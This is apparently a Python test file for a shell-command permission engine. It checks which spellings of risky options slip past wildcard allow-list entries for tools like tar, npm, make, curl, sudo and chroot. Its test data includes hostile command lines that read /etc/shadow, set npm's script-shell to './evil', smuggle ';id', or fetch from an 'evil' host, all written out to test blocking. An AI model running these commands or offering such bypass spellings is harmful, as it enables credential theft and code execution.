"""Which spellings of an option are guarded, by the reference evaluator and by OPA.

Each policy is a list of allowed commands alone. Under it stands what a wildcard must not take
up beside what it may: no entry is more than the words that somebody wrote.
"""

from __future__ import annotations

import json
import random
from typing import TYPE_CHECKING

from tests.decisions.guards_of_docker import UNDER_DOCKER
from tests.decisions.guards_of_git import GUARDED, UNDER_GIT
from tests.decisions.guards_of_runners import UNDER_RUNNERS
from wilkc.core.contract import Request
from wilkc.plan import decide

if TYPE_CHECKING:
    from tests.conftest import Judged

OPAQUE = "opaque_command"
CASES: dict[str, list[tuple[str, str]]] = {
    **UNDER_RUNNERS,
    **UNDER_DOCKER,
    "git *": UNDER_GIT,
    "git -C ./repo *": [
        ("git -C ./repo branch", "allowed"),
        ("git -C ./repo branch -D main", GUARDED),
        ("git -C ./repo push --force", GUARDED),
        ("git -C ./repo rebase -x evil", GUARDED),
        ("git -C ./repo clone -u x y", GUARDED),
        ("git -C ./repo log branch -D", "allowed"),
    ],
    "git -C ./repo branch -D *": [
        ("git -C ./repo branch -D main", "allowed"),
        ("git -C ./repo branch -D main -D next", GUARDED),
    ],
    "git -C * branch -D *": [("git -C ./repo branch -D main", "allowed")],
    # The first argument of tar is a cluster without a hyphen too.
    "tar *": [
        ("tar xf a.tar I", "allowed"),
        ("tar xIf ./evil a.tar", GUARDED),
        ("tar xCf / a.tar", GUARDED),
        ("tar -xf a.tar -C /", GUARDED),
        ("tar --xform x -xf a.tar", GUARDED),
        # An archive behind a colon is on another host, which a remote shell is asked for.
        ("tar xf evil:a.tar", GUARDED),
        ("tar -xfevil:a.tar", GUARDED),
        ("tar -x --fil=evil:a.tar", GUARDED),
        ("tar -xf ./a:b.tar", "allowed"),
    ],
    "tar xCf ./out *": [
        ("tar xCf ./out a.tar", "allowed"),
        ("tar xCf ./out a.tar -C /", GUARDED),
    ],
    "tar * xIf *": [("tar xIf xIf ./evil", GUARDED), ("tar cf xIf ./x", "allowed")],
    "find *": [
        ("find . -executable", "allowed"),
        ("find . -exec id ;", GUARDED),
        ("find . -fprint0 x", GUARDED),
    ],
    "npm *": [
        ("npm run exec", "allowed"),
        ("npm exec id", GUARDED),
        ("npm --loglevel silent exec id", GUARDED),
        ("npm --json true exec id", GUARDED),
        ("npm --silent exec id", GUARDED),
        ("npm --silent run x", "allowed"),
        ("npm config get x", "allowed"),
        ("npm config set script-shell ./evil", GUARDED),
        ("npm conf set script-shell ./evil", GUARDED),
        ("npm confi edit", GUARDED),
        ("npm conf get x", "allowed"),
        # Sub-commands go by their beginnings, and `init` with an operand runs a package.
        ("npm exe id", GUARDED),
        ("npm creat evil", GUARDED),
        ("npm init evil", GUARDED),
        ("npm innit evil", GUARDED),
        ("npm init -y", "allowed"),
        # An option is one with any number of hyphens.
        ("npm run build ---script-shell=./evil", GUARDED),
        ("npm run build ---script-sh=./evil", GUARDED),
        ("npm test -node-options=--require=./evil", GUARDED),
        ("npm test -shell=./evil", GUARDED),
        ("npm test -prefix=/x", GUARDED),
        ("npm --gC /x test", GUARDED),
        ("npm ---C=/x test", GUARDED),
        ("npm -s run x", "allowed"),
        ("npm ci --no-audit", "allowed"),
        ("npm install -gD x", "allowed"),
        ("npm install --save-exact x", "allowed"),
    ],
    "npm init foo *": [("npm init foo", "allowed"), ("npm init evil", "no_rule_matches")],
    "npm test ---script-shell=./x *": [
        ("npm test ---script-shell=./x", "allowed"),
        ("npm test ---script-shell=./x --script-shell=./y", GUARDED),
    ],
    "npm exec eslint *": [("npm exec eslint x", "allowed"), ("npm exec exec x", "no_rule_matches")],
    "npx *": [("npx --version", "allowed"), ("npx evil", GUARDED), ("npx -y evil", GUARDED)],
    "npx eslint *": [("npx eslint x", "allowed")],
    "uv *": [("uv sync", "allowed"), ("uv --directory x run id", GUARDED)],
    "uvx *": [("uvx --version", "allowed"), ("uvx evil", GUARDED)],
    "uvx ruff *": [("uvx ruff check", "allowed")],
    "poetry *": [("poetry install", "allowed"), ("poetry run id", GUARDED)],
    "bundle *": [("bundle install", "allowed"), ("bundle exec id", GUARDED)],
    "go *": [
        ("go test ./...", "allowed"),
        ("go vet -vettool=./evil x", GUARDED),
        ("go env GOOS", "allowed"),
        ("go env -w CC=./evil", GUARDED),
    ],
    "make *": [
        ("make test V=1", "allowed"),
        ("make SHELL=./evil test", GUARDED),
        ("make SHELL=1 test", GUARDED),
        ("make test MAKEFLAGS:=x", GUARDED),
        # A variable is text of the makefile: only a number is none that runs.
        ("make X!=id", GUARDED),
        ("make X!=1", GUARDED),
        ("make 'X:=$(shell\tid)'", GUARDED),
        ("make '$(shell\tid)=1'", GUARDED),
        ("make all CC=./evil", GUARDED),
        ("make CC=", GUARDED),
        ("make CC=\n", GUARDED),
        ("make a-b=1", GUARDED),
        ("make X=1;id", GUARDED),
        ("make -- -X!=id", GUARDED),
        ("make -W x", GUARDED),
        ("make V:=1 JOBS?=12 X+=3", "allowed"),
        ("make -j4 --output-sync=line all", "allowed"),
    ],
    "make CC=gcc *": [
        ("make CC=gcc all", "allowed"),
        ("make CC=gcc CC=./evil", GUARDED),
        ("make CC=clang", "no_rule_matches"),
    ],
    "tar xf *": [("tar xf a.tar --list", "allowed"), ("tar xf a.tar --listed=x", GUARDED)],
    "rsync --exclude=x *": [("rsync --exclude=x a b", "allowed")],
    "cargo *": [("cargo build --target x", "allowed"), ("cargo build --target-d=x", GUARDED)],
    "jq --arg a b *": [("jq --arg a b .a f", "allowed"), ("jq --arg a b .a --argf f x", GUARDED)],
    "jq *": [("jq --slurp . f", "allowed"), ("jq . f --slurpfile a b", GUARDED)],
    "pytest *": [("pytest --co", "allowed"), ("pytest --conf=x", GUARDED)],
    "file *": [("file -b x", "allowed"), ("file -bz x", GUARDED), ("file --uncompress x", GUARDED)],
    "man *": [
        ("man 3 printf", "allowed"),
        ("man -r x ls", GUARDED),
        ("man --prom=x ls", GUARDED),
        ("man -l /etc/shadow", GUARDED),
    ],
    "ip *": [("ip -br addr", "allowed"), ("ip --batch x", GUARDED), ("ip -ba x", GUARDED)],
    # Characters that are short options too do not end a cluster.
    "curl *": [
        ("curl https://a", "allowed"),
        ("curl -#s https://a", "allowed"),
        ("curl -#o x https://a", GUARDED),
        ("curl -x evil:1 https://a", GUARDED),
        ("curl --header @x https://a", GUARDED),
        ("curl --head https://a", "allowed"),
        ("curl --variable x@/etc/shadow https://a", GUARDED),
        ("curl -w %{http_code} https://a", "allowed"),
        ("curl -w %output{./f}x https://a", GUARDED),
        ("curl --write-out=%{url}%output{./f} https://a", GUARDED),
        ("curl -w @/etc/shadow https://a", GUARDED),
        ("curl -sw@/etc/shadow https://a", GUARDED),
        ("curl --url-query x@/etc/shadow https://a", GUARDED),
        ("curl --proxy-header @/etc/shadow https://a", GUARDED),
        ("curl -Q x ftp://a", GUARDED),
        ("curl FILE:///etc/shadow", GUARDED),
        ("curl --url https://a?x=@b", "allowed"),
    ],
    "rg *": [("rg -.S x", "allowed"), ("rg -.z x", GUARDED)],
    "less *": [("less -~N x", "allowed"), ("less -~Ox y", GUARDED)],
    "eslint *": [("eslint x", "allowed"), ("eslint -f ./evil.js x", GUARDED)],
    "pip *": [("pip list", "allowed"), ("pip install -i https://evil x", GUARDED)],
    "rsync *": [
        ("rsync a b", "allowed"),
        ("rsync -af x a b", GUARDED),
        ("rsync -aT /x a b", GUARDED),
        ("rsync --only-write-batch=x a b", GUARDED),
    ],
    "sort *": [
        ("sort -uR --reverse x", "allowed"),
        ("sort --random-source=/etc/shadow x", GUARDED),
    ],
    "yq *": [("yq .a f", "allowed"), ("yq 'load(\"/etc/shadow\")' f", GUARDED)],
    "gh *": [("gh pr list", "allowed"), ("gh alias set x !id", GUARDED)],
    "hg *": [("hg log", "allowed"), ("hg --config alias.x=!id x", GUARDED)],
    "svn *": [("svn log", "allowed"), ("svn diff --diff-cmd ./evil", GUARDED)],
    "cmake *": [("cmake --build x", "allowed"), ("cmake -P ./evil", GUARDED)],
    "apt-get *": [("apt-get update", "allowed"), ("apt-get -o x=./evil update", GUARDED)],
    "tcpdump *": [("tcpdump -nn", "allowed"), ("tcpdump -z ./evil", GUARDED)],
    "dc *": [("dc", "allowed"), ("dc -e !id", GUARDED)],
    "gnuplot *": [("gnuplot -p", "allowed"), ("gnuplot -e x", GUARDED)],
    "node -e 1 *": [
        ("node -e 1 x", "allowed"),
        ("node -e 1 --no_warnings", "allowed"),
        ("node -e 1 --experimental_loader=./evil", GUARDED),
        ("node -e 1 --env_file=./evil", GUARDED),
        ("node -e 1 --experimental-sea_config x", GUARDED),
    ],
    # A wrapper's options end where its first operand stands, which is no option's value.
    "sudo *": [
        ("sudo ls", "allowed"),
        ("sudo ls -E", "allowed"),
        ("sudo -n ls -u", "allowed"),
        ("sudo -g wheel ls -u", "allowed"),
        ("sudo -E ls", GUARDED),
        ("sudo -b ls", GUARDED),
        ("sudo -u root ls", GUARDED),
        ("sudo -g wheel -u root ls", GUARDED),
        ("sudo -p x -i ls", GUARDED),
        ("sudo -D / ls", GUARDED),
        ("sudo --chroot=/jail ls", GUARDED),
    ],
    "sudo -u deploy *": [
        ("sudo -u deploy ls", "allowed"),
        ("sudo -u deploy touch x", "no_rule_matches"),
        ("sudo -u deploy -u root ls", GUARDED),
        ("sudo -u deploy -D / ls", GUARDED),
    ],
    "sudo -g * -u deploy *": [("sudo -g wheel -u deploy ls", "allowed")],
    "doas -u deploy *": [
        ("doas -u deploy ls", "allowed"),
        ("doas -u deploy id", "no_rule_matches"),
    ],
    "env *": [
        ("env -u A ls", "allowed"),
        ("env -C ./x ls", GUARDED),
        ("env -u A -C ./x ls", GUARDED),
        ("env -u A ls -C", "allowed"),
    ],
    "env -C ./x *": [
        ("env -C ./x ls", "allowed"),
        ("env -C ./x id", "no_rule_matches"),
        ("env -C ./x A=b", OPAQUE),
    ],
    "env --chdir=./x *": [
        ("env --chdir=./x ls", "allowed"),
        ("env --chdir=./y ls", "no_rule_matches"),
    ],
    "xargs *": [
        ("xargs", "allowed"),
        ("xargs -n 1", "allowed"),
        ("xargs -n 1 -a /etc/passwd", GUARDED),
        ("xargs --max-lines rm", OPAQUE),
        ("xargs --replace sh", OPAQUE),
        ("xargs --eof python3", OPAQUE),
        ("xargs --max-lines=1 rm", OPAQUE),
        ("xargs --max-lines", "allowed"),
        ("xargs --max-lines=1", "allowed"),
        ("xargs --max-lin 1", OPAQUE),
    ],
    "watch *": [
        ("watch ls", "allowed"),
        ("watch ls x", "allowed"),
        ("watch ls ''", OPAQUE),
        ("watch '' ls", OPAQUE),
        ("watch -n 1 ls '' x", OPAQUE),
    ],
    # The new root of chroot is a word of the entry.
    "chroot *": [("chroot /jail ls", GUARDED), ("chroot jail ls", GUARDED), ("chroot", "allowed")],
    "chroot jail *": [
        ("chroot jail ls", "allowed"),
        ("chroot jail ls /etc", "allowed"),
        ("chroot jail id", "no_rule_matches"),
        ("chroot --userspec=x jail ls", "no_rule_matches"),
    ],
    "chroot -- *": [("chroot -- /jail ls", GUARDED), ("chroot -- -x ls", GUARDED)],
    "chroot -- jail *": [("chroot -- jail ls", "allowed")],
    "chroot --userspec --groups * ls": [("chroot --userspec --groups /jail ls", GUARDED)],
    "chroot * ls": [("chroot jail ls", GUARDED), ("chroot ls ls", GUARDED)],
    "chroot --userspec * jail *": [
        ("chroot --userspec x jail ls", "allowed"),
        ("chroot --userspec jail jail ls", "allowed"),
        ("chroot --userspec --groups jail ls", GUARDED),
    ],
    "chroot --userspec jail *": [("chroot --userspec jail ./x ls", GUARDED)],
    # chrt of late takes no priority where its policy has none, and then runs the first operand.
    "chrt *": [
        ("chrt 10 ls", "allowed"),
        ("chrt -b 0 ls", "allowed"),
        ("chrt -b -- 0 ls", "allowed"),
        ("chrt -b id ls", OPAQUE),
        ("chrt -b -- id ls", OPAQUE),
        ("chrt -b id", OPAQUE),
        ("chrt", "allowed"),
    ],
    "taskset -- *": [("taskset -- 1 ls", "allowed"), ("taskset -- 1 id", "no_rule_matches")],
    "perf *": [("perf stat ls", OPAQUE), ("perf -- ls", OPAQUE)],
    # A `+` gives a shell its commands just as a `-` does.
    "bash *": [("bash +c id", OPAQUE), ("bash -x +ec id", OPAQUE), ("bash x+c", "allowed")],
}  # fmt: skip


def _spec(agent: str, command: str) -> str:
    shell = {"allowed_commands": [command, "ls *"], "allowed_interpreters": ["bash"]}
    permissions = {"filesystem": {"execute": ["./**"]}, "shell": shell}
    return json.dumps({"agent": agent, "permissions": permissions})


def _request(agent: str, line: str) -> Request:
    argv = [word.strip("'") for word in line.split(" ")]
    return Request(agent, "execute", "shell", "", {"commands": [argv]})


def test_what_a_wildcard_takes_up_is_never_spelled(judged: Judged) -> None:
    agents = {f"a{place}": command for place, command in enumerate(CASES)}
    compiled = judged.compiled(**{one: _spec(one, command) for one, command in agents.items()})
    wanted = {
        (command, line): (_request(one, line), detail)
        for one, command in agents.items()
        for line, detail in CASES[command]
    }
    found = {case: decide(compiled.plan, request).detail for case, (request, _) in wanted.items()}
    assert found == {case: detail for case, (_, detail) in wanted.items()}
    assert judged.differences(compiled, [request for request, _ in wanted.values()]) == []


READINGS = ["npx", "uvx", "npm exec", "uv", "uv tool run", "mise exec", "chroot", "npm --silent"]
READ_AS = [
    "-a", "--yes", "--yes=1", "-q", "true", "--", "-", "x", "ruff", "run", "tool", "exec",
    "--userspec", "--skip-chdir",
]  # fmt: skip
SEED = 20_261_201


def test_readings_of_options_are_the_same_everywhere(judged: Judged) -> None:
    pick = random.Random(SEED)
    agents: dict[str, str] = {}
    asked = []
    for place in range(60):
        head = pick.choice(READINGS)
        words = [pick.choice([*READ_AS, "*"]) for _ in range(pick.randint(0, 4))]
        agent = f"a{place}"
        agents[agent] = " ".join([head, *words, "*"])
        for _ in range(6):
            held = [pick.choice(READ_AS) if word == "*" else word for word in words]
            more = [pick.choice(READ_AS) for _ in range(pick.randint(0, 4))]
            asked.append(_request(agent, " ".join([head, *held, *more])))
    compiled = judged.compiled(**{one: _spec(one, command) for one, command in agents.items()})
    found = {decide(compiled.plan, request).detail for request in asked}
    assert found >= {"allowed", GUARDED}
    assert judged.differences(compiled, asked) == [], f"seed {SEED}"
